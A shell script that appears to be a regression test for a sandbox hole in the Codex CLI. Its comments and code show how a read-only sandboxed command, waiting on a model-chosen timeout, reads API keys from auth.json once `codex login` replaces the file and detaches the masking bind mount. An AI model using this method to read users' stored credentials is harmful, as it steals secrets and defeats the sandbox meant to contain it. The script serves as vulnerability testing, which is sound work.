#!/bin/sh
# 08: auth.json is hidden by a /dev/null bind mount on the *dentry*; `codex login` replaces the
# file with rename(2) (write_private_file), which detaches that mount in the command's mount
# namespace, and its temp file (same directory, readable) is visible too. A sandboxed command
# that waits (model-chosen timeout, up to 1 h) reads the key the user stores meanwhile with
# `codex login` (another terminal, another session). User-namespace mode only (Landlock-only
# mode gives new entries in $CODEX_HOME no rule). Exit 1 while vulnerable.
REPO=${CODEX_REPO:-$(cd "$(dirname "$0")/../../.." && pwd)}; CODEX=${CODEX_BIN:-$REPO/dist/codex}
T=$(mktemp -d /var/tmp/a3-08-XXXXXX); mkdir -p $T/home $T/ch $T/ws
export HOME=$T/home CODEX_HOME=$T/ch
echo "sk-old-key-000" | "$CODEX" login --with-api-key >/dev/null 2>&1
( sleep 3; echo "sk-new-secret-4242" | "$CODEX" login --with-api-key >/dev/null 2>&1 ) &
OUT=$(cd $T/ws && timeout 60 "$CODEX" sandbox -s read-only -C $T/ws -- sh -c \
  'i=0; while [ $i -lt 40 ]; do cat "$CODEX_HOME"/auth.json "$CODEX_HOME"/.auth* 2>/dev/null; i=$((i+1)); sleep 0.25; done' 2>&1)
wait
rm -rf "$T"
echo "$OUT" | grep -m2 sk-
case "$OUT" in *sk-new-secret-4242*) echo "VULNERABLE: the sandboxed command read the key stored by codex login"; exit 1;; esac
case "$OUT" in *sk-old-key-000*) echo "VULNERABLE: old key readable"; exit 1;; esac
echo held; exit 0
